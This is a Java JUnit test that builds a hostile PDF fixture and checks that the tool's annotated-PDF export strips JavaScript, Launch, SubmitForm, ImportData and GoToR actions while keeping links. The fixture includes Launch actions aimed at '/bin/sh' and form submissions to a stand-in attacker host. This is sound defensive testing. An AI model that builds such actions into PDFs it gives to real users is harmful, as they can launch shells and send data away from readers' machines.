package org.counterpoint.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Deque;
import java.util.IdentityHashMap;
import java.util.List;
import java.util.Set;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObject;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.counterpoint.testing.TestPdfs;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** An annotated-PDF export never carries the source's scripts or actions, unless asked to. */
class ActiveContentExportTest {
    @TempDir
    Path dir;

    private static COSDictionary action(String type) {
        COSDictionary a = new COSDictionary();
        a.setName(COSName.TYPE, "Action");
        a.setName(COSName.S, type);
        switch (type) {
            case "Launch" -> a.setString(COSName.F, "/bin/sh");
            case "SubmitForm", "ImportData", "GoToR" -> a.setString(COSName.F, "http://attacker.invalid/collect");
            default -> { }
        }
        return a;
    }

    private static PDAnnotationLink link(COSDictionary action, float y) {
        PDAnnotationLink l = new PDAnnotationLink();
        l.setRectangle(new PDRectangle(50, y, 100, 20));
        l.getCOSObject().setItem(COSName.A, action);
        return l;
    }

    private static byte[] hostilePdf() throws Exception {
        try (PDDocument doc = Loader.loadPDF(TestPdfs.pages(List.of(List.of("The evidence on page one, with hostile extras."))))) {
            PDActionJavaScript open = new PDActionJavaScript("app.alert('opened');");
            doc.getDocumentCatalog().setOpenAction(open);
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
            PDJavascriptNameTreeNode js = new PDJavascriptNameTreeNode();
            js.setNames(java.util.Map.of("init", new PDActionJavaScript("app.alert('init');")));
            names.setJavascript(js);
            doc.getDocumentCatalog().setNames(names);
            PDPage page = doc.getPage(0);
            COSDictionary pageTriggers = new COSDictionary();
            pageTriggers.setItem(COSName.O, action("JavaScript"));
            page.getCOSObject().setItem(COSName.AA, pageTriggers);
            PDActionURI uri = new PDActionURI();
            uri.setURI("https://example.org/evidence");
            uri.getCOSObject().setItem(COSName.NEXT, action("Launch"));
            COSDictionary submitThenLaunch = action("SubmitForm");
            submitThenLaunch.setItem(COSName.NEXT, action("Launch"));
            page.setAnnotations(new ArrayList<>(List.of(link(uri.getCOSObject(), 700), link(action("Launch"), 650),
                    link(submitThenLaunch, 600), link(action("ImportData"), 550), link(action("GoToR"), 500))));
            return TestPdfs.save(doc);
        }
    }

    /** Every action type reachable in the file, and whether a /JavaScript name tree is there. */
    private static List<String> actionTypes(Path pdf) throws Exception {
        List<String> types = new ArrayList<>();
        try (PDDocument doc = Loader.loadPDF(pdf.toFile())) {
            Set<COSBase> seen = Collections.newSetFromMap(new IdentityHashMap<>());
            Deque<COSBase> todo = new ArrayDeque<>(List.of(doc.getDocumentCatalog().getCOSObject()));
            while (!todo.isEmpty()) {
                COSBase b = todo.pop();
                if (b instanceof COSObject o) {
                    b = o.getObject();
                }
                if (b == null || !seen.add(b)) {
                    continue;
                }
                if (b instanceof COSDictionary d) {
                    if (d.getNameAsString(COSName.S) != null) {
                        types.add(d.getNameAsString(COSName.S));
                    }
                    if (d.containsKey(COSName.JAVA_SCRIPT) && !(d.getDictionaryObject(COSName.JAVA_SCRIPT) instanceof org.apache.pdfbox.cos.COSString)) {
                        types.add("JavaScript name tree");
                    }
                    d.getValues().forEach(todo::push);
                } else if (b instanceof COSArray a) {
                    a.forEach(todo::push);
                }
            }
        }
        return types;
    }

    @Test
    void scriptsLaunchesAndSubmissionsAreStrippedAndLinksKept() throws Exception {
        Path pdf = dir.resolve("hostile.pdf");
        Files.write(pdf, hostilePdf());
        assertThat(actionTypes(pdf)).contains("JavaScript", "Launch", "SubmitForm", "ImportData", "GoToR", "URI", "JavaScript name tree");
        Path project = dir.resolve("case.counterpoint.json");
        assertThat(CliTest.run("import", pdf.toString(), "--into", project.toString()).code()).isZero();

        Path out = dir.resolve("out.pdf");
        CliTest.Run r = CliTest.run("export", project.toString(), "--format", "annotated-pdf", "-o", out.toString());
        assertThat(r.code()).as(r.err()).isZero();
        List<String> left = actionTypes(out);
        assertThat(left).contains("URI").doesNotContain("JavaScript", "Launch", "SubmitForm", "ImportData", "GoToR", "JavaScript name tree");
        assertThat(r.err()).contains("note: Removed active content from “hostile”: ")
                .contains("1 GoToR action").contains("1 ImportData action").contains("2 JavaScript actions")
                .contains("2 Launch actions").doesNotContain("3 Launch").contains("1 SubmitForm action").contains("1 document-level JavaScript");
        try (PDDocument doc = Loader.loadPDF(out.toFile())) {
            assertThat(doc.getDocumentCatalog().getOpenAction()).isNull();
            assertThat(doc.getPage(0).getAnnotations()).filteredOn(a -> a instanceof PDAnnotationLink).hasSize(5);
        }

        Path kept = dir.resolve("kept.pdf");
        CliTest.Run keep = CliTest.run("export", project.toString(), "--format", "annotated-pdf", "--keep-active-content", "-o", kept.toString());
        assertThat(keep.code()).isZero();
        assertThat(keep.err()).doesNotContain("Removed active content");
        assertThat(actionTypes(kept)).contains("JavaScript", "Launch", "SubmitForm", "ImportData", "GoToR", "URI", "JavaScript name tree");
    }
}
